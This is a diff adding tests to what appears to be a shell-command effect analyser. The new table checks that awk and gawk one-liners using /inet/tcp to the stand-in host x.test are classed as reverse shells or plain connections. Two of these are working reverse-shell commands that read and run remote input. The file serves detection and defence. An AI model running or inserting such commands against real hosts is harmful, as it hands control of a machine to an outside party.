@@ -198,3 +198,13 @@ describe("stores of secrets", () => {
     expect(shown("echo $API_KEY > k")).toBe(0);
   });
 });
+
+describe("sockets of awk", () => {
+  test.each([
+    ["a shell for the other side", `awk 'BEGIN{s="/inet/tcp/0/x.test/4444"; while((s |& getline c) > 0) while((c |& getline) > 0) print $0 |& s}'`, "reverse-shell"],
+    ["what comes in is run", `gawk 'BEGIN{while (("/inet/tcp/0/x.test/1" |& getline c) > 0) system(c)}'`, "reverse-shell"],
+    ["a page is read", `gawk 'BEGIN{s="/inet/tcp/0/x.test/80"; print "GET /" |& s; while ((s |& getline l) > 0) print l}'`, "connect"],
+  ])("%s", (_, command, action) => {
+    expect(ofKind(effectsOf(command), "network").map((effect) => effect.action)).toEqual([action]);
+  });
+}); // biome-ignore format: one table
